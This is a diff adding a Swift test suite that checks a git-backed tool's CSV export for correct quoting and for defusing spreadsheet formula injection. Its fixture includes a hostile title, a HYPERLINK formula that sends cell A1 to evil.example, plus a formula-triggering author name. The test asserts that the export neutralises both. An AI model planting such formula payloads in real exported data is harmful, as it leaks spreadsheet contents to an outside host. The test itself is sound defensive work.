@@ -1,0 +1,58 @@
+import Foundation
+import Testing
+
+/// Every `--format csv`, read back by Python's csv module (RFC 4180 quoting)
+/// rather than by the code that wrote it, on values that attack the format:
+/// commas, quotes, line breaks, and text a spreadsheet would run as a formula.
+@Suite struct CSVOutputTests {
+    /// The rows as Python's csv.reader reads them, strict about quoting; the
+    /// text must be UTF-8 and end every row with CRLF.
+    static func parse(_ csv: String) throws -> [[String]] {
+        #expect(csv.hasSuffix("\r\n"))
+        let script = """
+            import csv, io, json, sys
+            text = sys.stdin.buffer.read().decode("utf-8")
+            print(json.dumps(list(csv.reader(io.StringIO(text, newline=""), strict=True))))
+            """
+        let output = try FixtureProcess.run("/usr/bin/python3", ["-c", script], in: nil, environment: [:], input: Data(csv.utf8))
+        #expect(output.status == 0, "\(output.errorText)")
+        let rows = try JSONDecoder().decode([[String]].self, from: output.stdout)
+        #expect(Set(rows.map(\.count)).count == 1, "every row has the header's columns")
+        return rows
+    }
+
+    /// A title in history and an author that a spreadsheet would take for
+    /// formulas get an apostrophe; a comma, a quote and a line break survive.
+    @Test func timelineDefusesFormulasAndQuotes() throws {
+        let git = try GitFixture()
+        try git.write("kaizen.yml", "version: 1\n")
+        try git.write("experiments/hostile.md", """
+            ---
+            kind: experiment
+            title: '=HYPERLINK("http://evil.example/?"&A1, "click")'
+            ---
+            """)
+        try git.commit("Add", by: GitPerson(name: "@ops, \"night\" shift", email: "ops@example.com"), at: GitDate(2026, 3, 1, 12, offsetMinutes: 0))
+        try git.write("experiments/hostile.md", """
+            ---
+            kind: experiment
+            title: "-1 day, \\"then\\"\\nwave"
+            ---
+            """)
+        try git.commit("Retitle", by: .ana, at: GitDate(2026, 3, 2, 12, offsetMinutes: 0))
+        try git.write("experiments/hostile.md", "---\nkind: experiment\ntitle: '-0.25'\n---\n")
+        try git.commit("A number", by: .ana, at: GitDate(2026, 3, 3, 12, offsetMinutes: 0))
+        let result = try KaizenProcess.run(["timeline", "--field", "title", "--format", "csv", "--no-cache"], in: git.workTree)
+        #expect(result.status == 0, "\(result.stderr)")
+        let rows = try Self.parse(result.stdout)
+        let columns = try #require(rows.first)
+        func column(_ name: String) -> [String] {
+            let index = columns.firstIndex(of: name)!
+            return rows.dropFirst().map { $0[index] }
+        }
+        #expect(column("author_name") == ["'@ops, \"night\" shift", "Ana Lima", "Ana Lima"])
+        #expect(column("from") == ["", "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "'-1 day, \"then\"\nwave"])
+        // A plain number stays a number.
+        #expect(column("to") == ["'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "'-1 day, \"then\"\nwave", "-0.25"])
+    }
+}
